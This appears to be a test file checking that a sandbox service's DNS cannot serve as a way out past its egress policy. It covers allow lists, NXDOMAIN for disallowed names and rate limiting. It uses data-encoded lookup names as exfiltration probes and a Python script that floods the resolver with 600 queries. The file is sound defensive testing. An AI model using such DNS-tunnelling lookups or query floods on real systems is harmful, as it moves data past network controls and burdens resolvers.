// Issue 20 item 6: DNS as a channel out of a sandbox whose egress policy says otherwise. The
// test hostd answers pkgs.test and other.test from its static map (PODFLARE_DNS_STATIC) and has
// no upstream. A sandbox with an allow list gets answers for its allowed names only; with
// `allow_out: []` for none; every sandbox's queries are rate-limited (PODFLARE_DNS_QPS).
import assert from "node:assert/strict";
import { after, test } from "node:test";
import { SandboxPool, bash, exec } from "../support/api.js";

const pool = new SandboxPool();
after(() => pool.closeAll());
const sandbox = (body: Record<string, unknown> = {}): Promise<string> => pool.create(body);

/** `getent hosts name` in the sandbox: its exit code (2: not found) and output. */
async function lookup(id: string, name: string): Promise<{ code: number; out: string }> {
  const r = await bash(id, `getent hosts ${name}; echo "exit=$?"`);
  const code = Number(/exit=(\d+)/.exec(r.stdout)?.[1]);
  return { code, out: r.stdout };
}

test("an allow list naming pkgs.test: pkgs.test resolves, other.test (also in the static map) is NXDOMAIN", async () => {
  const id = await sandbox({ network: { allow_out: ["pkgs.test"] } });
  const ok = await lookup(id, "pkgs.test");
  assert.equal(ok.code, 0, ok.out);
  assert.match(ok.out, /198\.51\.100\.2\s+pkgs\.test/);
  const other = await lookup(id, "other.test");
  assert.equal(other.code, 2, `other.test must not resolve: ${other.out}`);
  // Data encoded in a name under a name that is not allowed goes nowhere either.
  const leak = await lookup(id, "secret-data-1234.other.test");
  assert.equal(leak.code, 2, leak.out);
});

test("allow_out: [] gets NXDOMAIN for every name, static ones included", async () => {
  const id = await sandbox({ network: { allow_out: [] } });
  for (const name of ["pkgs.test", "other.test", "exfiltrated-bytes.example.com"]) {
    const r = await lookup(id, name);
    assert.equal(r.code, 2, `${name} resolved in a sandbox with allow_out: []: ${r.out}`);
  }
});

test("a CIDR-only allow list resolves no names; an open sandbox still resolves both", async () => {
  const cidrOnly = await sandbox({ network: { allow_out: ["198.51.100.2"] } });
  assert.equal((await lookup(cidrOnly, "pkgs.test")).code, 2);
  const open = await sandbox();
  assert.equal((await lookup(open, "pkgs.test")).code, 0);
  assert.equal((await lookup(open, "other.test")).code, 0);
});

test("a burst of DNS queries is rate-limited (REFUSED beyond the limit)", async () => {
  const id = await sandbox();
  const r = await exec(id, `
import socket, struct
gw = open('/etc/resolv.conf').read().split('nameserver ')[1].split()[0]
name = b''.join(bytes([len(p)]) + p for p in b'pkgs.test'.split(b'.')) + b'\\0'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
s.settimeout(1.0)
for i in range(600):
    s.sendto(struct.pack('>HHHHHH', i, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1), (gw, 53))
codes = {}
try:
    while True:
        m, _ = s.recvfrom(512)
        codes[m[3] & 15] = codes.get(m[3] & 15, 0) + 1
except socket.timeout:
    pass
print(codes.get(0, 0), codes.get(5, 0))
`);
  assert.equal(r.exitCode, 0, r.stderr);
  const [answered, refused] = r.stdout.trim().split(" ").map(Number);
  assert.ok(answered! > 0, `some queries are answered: ${r.stdout}`);
  assert.ok(refused! > 0, `a burst of 600 queries must be rate-limited: ${answered} answered, ${refused} refused`);
  assert.ok(answered! < 600, r.stdout);
});
